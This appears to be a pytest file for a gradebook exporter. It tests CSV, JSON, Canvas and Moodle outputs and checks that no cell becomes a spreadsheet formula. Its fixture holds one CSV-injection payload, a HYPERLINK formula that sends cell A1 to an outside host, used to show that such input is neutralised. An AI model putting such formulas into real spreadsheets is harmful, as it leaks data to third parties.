"""Exports: every figure, the shapes that Canvas and Moodle import, and no formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from course.made import course as made_course
from course.made import graded
from roofline.course.export import export, harmless, write
from roofline.course.export import rows as rows_of
from roofline.course.folder import Course, CourseError
from roofline.course.gradebook import Book


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    made = made_course(tmp_path_factory.mktemp("export") / "class")
    evil = '=HYPERLINK("http://example.org?"&A1)'
    graded(
        *(made, "ada", 3, 2, None),
        **{"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"},
        lms_user_id="4711",
    )
    graded(
        *(made, "bob", 1, 0, 4),
        **{"first_name": evil, "last_name": "-1+1", "email": "@b"},
        days_late=0.5,
        reason='the loop, "forever"\nand on',
    )
    with Book(made) as book:
        book.add_students({"zoë": {"first_name": "Zoë", "last_name": "Ångström, the Younger"}})
    return made


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_says_everything_about_everybody(course: Course) -> None:
    head, *body = rows(export(course, "csv"))
    found = {row[1]: dict(zip(head, row, strict=True)) for row in body}
    assert list(found) == ["ada", "bob", "zoë"]
    ada, bob, zoe = found.values()
    assert (ada["score"], ada["max_score"], ada["waiting"]) == ("5.0", "10.0", "yes")
    assert (bob["earned"], bob["late_penalty"], bob["score"]) == ("5.0", "0.5", "4.5")
    assert (zoe["submitted"], zoe["score"], zoe["submitted_at"]) == ("no", "0.0", "")
    assert zoe["last_name"] == "Ångström, the Younger"
    assert bob["due"] == "2026-01-10 12:00:00" and bob["submitted_at"] == "2026-01-11 00:00:00"


def test_no_cell_is_a_formula(course: Course) -> None:
    for form in ("csv", "canvas", "moodle"):
        for row in rows(export(course, form)):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "@")), cell
                assert not cell.startswith("-") or float(cell) is not None
    for text in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "  =1", "＝1", "\n=1"):
        assert harmless(text) == f"'{text}"
    for value in ("a=1", "", "1-2", -1.5, 3, 0.0):
        assert harmless(value) == value


def test_json_is_exact(course: Course) -> None:
    found = json.loads(export(course, "json", ["01_toy"]))
    assert [one["score"] for one in found] == [5.0, 4.5, 0.0]
    assert found[1]["first_name"].startswith("=HYPERLINK")  # JSON has no formulas
    assert found[2]["submitted"] is False


def test_canvas_takes_this_shape(course: Course) -> None:
    """Student, its four columns, then assignments; the second row has the points possible."""
    head, possible, ada, bob, zoe = rows(export(course, "canvas"))
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01_toy"]
    assert possible[0].strip() == "Points Possible" and possible[-1] == "10.0"
    assert ada == ["Lovelace, Ada", "4711", "", "ada", "", "5.0"]
    assert bob[3:] == ["bob", "", "4.5"]
    assert zoe[-1] == ""  # missing is not 0: Canvas has its own rule for that


def test_moodle_takes_this_shape(course: Course) -> None:
    head, ada, bob, zoe = rows(export(course, "moodle"))
    assert head[:4] == ["First name", "Surname", "ID number", "Email address"]
    assert head[4:] == ["01_toy", "01_toy (feedback)"]
    assert ada == [
        "Ada",
        "Lovelace",
        "4711",
        "ada@example.org",
        "5.0",
        "first 3/3; second_part 2/2",
    ]
    assert bob[4] == "4.5" and bob[5].startswith('the loop, "forever"\nand on; first 1/3')
    assert zoe[4:] == ["", ""]


def test_a_file_is_written_whole(course: Course, tmp_path: Path) -> None:
    target = tmp_path / "new" / "grades.csv"
    text = export(course, "csv")
    write(text, "csv", target)
    assert rows_of("csv", text) == 3 == rows_of("json", export(course, "json"))
    assert target.read_bytes().startswith(b"\xef\xbb\xbfassignment,")
    assert [path.name for path in target.parent.iterdir()] == ["grades.csv"]
    (tmp_path / "file").write_text("")
    with pytest.raises(CourseError, match="can't be written"):
        write(text, "csv", tmp_path / "file" / "grades.csv")


def test_mistakes_are_named(course: Course) -> None:
    with pytest.raises(CourseError, match="unknown format 'xls': expected one of csv, json"):
        export(course, "xls")
    with pytest.raises(CourseError, match="no assignment 'two'.*there are: 01_toy"):
        export(course, "csv", ["two"])
